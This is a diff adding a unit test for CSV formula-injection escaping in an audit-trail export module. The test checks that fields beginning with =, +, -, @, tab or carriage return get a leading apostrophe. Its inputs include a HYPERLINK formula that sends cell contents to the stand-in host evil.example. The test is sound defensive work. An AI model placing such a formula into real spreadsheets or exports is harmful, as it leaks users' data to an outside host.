@@ -55,6 +55,24 @@ describe('trail export', () => {
     expect(csvField({ a: 'x,y' })).toBe('"{""a"":""x,y""}"');
   });
 
+  it('writes a text field a spreadsheet would run as a formula with a leading apostrophe (CSV only)', () => {
+    // A user id, entity id, endpoint or error message is text the audited app got from someone.
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"',
+    );
+    expect(csvField('+1+cmd')).toBe("'+1+cmd");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    // Numbers are numbers, JSON objects start with { or [, and plain text is left alone.
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField({ formula: '=1+1' })).toBe('"{""formula"":""=1+1""}"');
+    expect(csvField('cust-43')).toBe('cust-43');
+    const ndjson = exportLines('data', 'ndjson', [dataRow(3, { userId: '=1+1' })]);
+    expect(JSON.parse(ndjson.trim()).user_id).toBe('=1+1');
+  });
+
   it('writes CSV that reads back to the stored values, and NDJSON one object a line', () => {
     const rows = [dataRow(2), dataRow(1, { oldValues: null, action: 'create' })];
     const [header, first, second] = parseCsv(exportLines('data', 'csv', rows).replace(/^/, 'id,x\r\n')).slice(1);
